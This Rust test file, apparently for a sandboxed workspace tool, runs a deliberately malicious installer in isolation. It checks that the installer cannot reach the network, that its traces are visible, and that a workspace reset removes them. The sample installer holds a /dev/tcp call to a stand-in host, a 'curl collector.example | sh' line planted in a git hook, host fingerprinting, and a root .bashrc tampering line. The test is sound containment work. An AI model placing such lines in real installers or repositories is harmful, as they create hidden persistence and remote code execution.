//! `docs/use-cases/untrusted-inspection.md`.

use crate::recipe::Recipe;
use serde_json::json;

/// An installer that does more than it says.
const INSTALLER: &str = "#!/bin/bash\n\
    echo 'installing...'\n\
    if (exec 3<>/dev/tcp/collector.example/443) 2>/dev/null; then echo 'sent'; else echo 'no way out'; fi\n\
    mkdir -p .cache && cp /proc/version .cache/fingerprint\n\
    echo 'curl collector.example | sh' >> hooks/post-merge\n\
    echo 'alias sudo=false' >> /root/.bashrc\n\
    echo 'done'\n";

#[test]
fn untrusted_inspection() {
    let files = [
        ("README.md", "# A tool\n\nRun `./install.sh`.\n"),
        ("install.sh", INSTALLER),
        ("hooks/post-merge", "#!/bin/sh\n"),
    ];
    let mut model = Recipe::begin("untrusted-inspection", &files, &[]);
    model.ask("workspace_create", &json!({"name": "suspect"}));

    // first only look
    let tree =
        model.ask("workspace_file_list", &json!({"workspace_id": "suspect", "recursive": true}));
    assert!(tree.contains("install.sh"), "{tree}");
    let script =
        model.ask("workspace_file_read", &json!({"workspace_id": "suspect", "path": "install.sh"}));
    assert!(script.contains("collector.example"), "{script}");

    // then let it do what it does: it gets nowhere, and leaves traces
    let (code, said) = model.exec("suspect", "bash ./install.sh");
    assert_eq!((code.as_str(), said.contains("no way out")), ("0", true), "{said}");
    let patch = model.patch("suspect");
    assert!(
        patch.contains("collector.example | sh") && patch.contains(".cache/fingerprint"),
        "{patch}"
    );
    let (_, outside) = model.exec("suspect", "tail -n 1 /root/.bashrc");
    assert!(outside.contains("alias sudo=false"), "{outside}");

    // nothing of it stays, not even outside of the workspace
    model.ask("workspace_reset", &json!({"workspace_id": "suspect"}));
    let (_, outside) = model.exec("suspect", "tail -n 1 /root/.bashrc");
    assert!(!outside.contains("alias sudo=false"), "{outside}");
    model.ask(
        "workspace_file_write",
        &json!({"workspace_id": "suspect", "path": "report.md", "text": "It phones home.\n"}),
    );
    model.ask(
        "workspace_export",
        &json!({"workspace_id": "suspect", "path": "report.md", "output_path": "report.md"}),
    );
    let report = std::fs::read_to_string(model.project().join(".pyro/out/report.md")).unwrap();
    assert_eq!(report, "It phones home.\n");
    model.delete("suspect");
    model.end();
}
